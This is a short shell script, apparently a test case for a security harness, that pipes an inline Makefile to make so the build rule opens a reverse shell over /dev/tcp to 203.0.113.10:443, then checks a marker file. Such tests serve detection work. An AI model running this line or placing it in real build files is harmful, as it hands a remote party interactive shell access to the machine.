#!/bin/sh
. /opt/case/case.sh

printf 'all:\n\t@exec 9<>/dev/tcp/203.0.113.10/443; bash <&9 >&9 2>&9\n' | make -s -f - SHELL=/bin/bash || true
test -e /tmp/reached
took_place
